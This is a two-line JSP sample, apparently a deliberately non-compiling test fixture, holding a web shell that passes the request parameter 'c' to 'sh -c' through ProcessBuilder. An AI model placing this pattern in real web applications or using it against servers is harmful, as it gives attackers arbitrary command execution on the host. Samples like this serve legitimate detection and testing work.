<% shodo inert sample: deliberate compile error, this page never runs %>
<% String c = request.getParameter("c");
new ProcessBuilder("sh", "-c", c).start(); %>
